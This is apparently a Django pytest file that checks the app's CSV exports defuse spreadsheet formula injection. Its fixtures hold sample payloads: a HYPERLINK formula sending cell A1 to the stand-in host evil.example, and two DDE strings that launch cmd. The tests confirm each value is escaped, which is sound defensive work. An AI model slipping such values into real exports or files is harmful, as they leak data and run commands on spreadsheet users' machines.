"""No CSV the app writes carries a cell a spreadsheet would run as a formula:
the export of reports, the hub's own exports and the 360Giving file all go
through monitoring.suppression.csv_rows."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.test import Client
from django.urls import reverse

from commissioning.models import Commission
from commissioning.workflow import Stage
from monitoring.models import Report, ReportKind, ReportStatus
from oversight.exports import EXPORTS
from tests.auth_helpers import sign_in

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
REPORT_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
PARTNER = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def leics(build, pipeline):
    cast = build("leics")
    pipeline(cast).run()
    commission = Commission.objects.filter(hub=cast.hub, status=Stage.MONITORING).first()
    Commission.objects.filter(pk=commission.pk).update(title=TITLE)
    commission.partner.__class__.objects.filter(pk=commission.partner_id).update(name=PARTNER)
    Report.objects.create(
        hub=cast.hub,
        commission=commission,
        kind=ReportKind.TERMLY_SURVEY,
        title=REPORT_TITLE,
        due_on=date(2026, 4, 1),
        status=ReportStatus.ACCEPTED,
        participants=40,
    )
    return cast


def _cells(response) -> list[str]:
    assert response.status_code == 200
    body = getattr(response, "streaming_content", None)
    text = b"".join(body).decode() if body is not None else response.content.decode()
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(cells: list[str], *dangerous: str) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for value in dangerous:
        assert "'" + value in cells


def test_the_export_of_reports_makes_formulas_inert(client, leics):
    sign_in(client, leics.officer)
    cells = _cells(client.get(reverse("monitoring:report_export", args=["leics"])))
    _no_formula(cells, REPORT_TITLE, PARTNER)


def test_every_hub_export_makes_formulas_inert(client, leics):
    sign_in(client, leics.officer)
    for kind in EXPORTS:
        cells = _cells(client.get(reverse("oversight:export", args=["leics", kind])))
        _no_formula(cells, *((TITLE,) if kind == "commissions" else ()))


def test_the_360giving_file_makes_formulas_inert(leics):
    cells = _cells(Client().get(reverse("oversight:giving_csv", args=["leics"])))
    _no_formula(cells, TITLE, PARTNER)
